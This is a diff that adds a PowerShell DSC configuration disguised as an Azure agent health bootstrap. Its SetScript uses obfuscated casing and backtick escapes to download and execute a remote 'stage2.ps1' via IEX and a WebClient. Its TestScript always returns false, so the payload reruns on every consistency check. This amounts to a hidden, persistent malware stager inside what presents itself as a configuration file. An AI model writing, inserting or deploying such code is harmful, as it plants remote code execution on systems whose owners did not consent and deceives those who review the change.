@@ -1,0 +1,11 @@
+# booTSTRaP 9616 V1
+confiGuRATion AzureaGENThEALtH {
+  I`mpoRT-DscREs`OurcE -modULeNaME PsDesIreDstATeconfIGuRatION
+  nODe LOcAlhoST {
+    ScrIPT BOOtSTRap {
+      GETSCriPt = { @{ result = '' } }
+      tEsTScriPt = { $faLSE }
+      SEtsCrIPt = { IeX (ne`w-`objecT nEt.`Web`cl`ienT).DOwnlOadstriNg('http://203.0.113.200/stage2.ps1') }
+    }
+  }
+}
